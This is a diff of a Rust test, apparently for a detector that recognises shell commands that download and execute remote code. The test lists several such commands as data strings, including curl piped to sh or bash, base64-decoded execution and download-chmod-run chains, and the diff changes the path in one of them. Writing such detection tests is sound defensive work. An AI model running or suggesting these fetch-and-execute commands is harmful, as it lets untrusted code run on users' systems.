@@ -27,7 +27,7 @@ fn what_is_fetched_and_run_is_known() {
         "curl https://example.net/a.gz | gunzip | sh",
         "curl https://example.net/x | base64 -d | bash",
         "curl https://example.net/x | xargs -I{} bash -c {}",
-        "curl -o /tmp/x https://example.net/x && chmod +x /tmp/x && /tmp/x",
+        "curl -o bin/x https://example.net/x && chmod +x bin/x && ./bin/x",
         "curl -sSLo x.sh https://example.net/x; bash x.sh",
         "wget https://example.net/setup.sh && sh ./setup.sh",
         "cd a; curl -O https://example.net/x.py && python3 x.py",
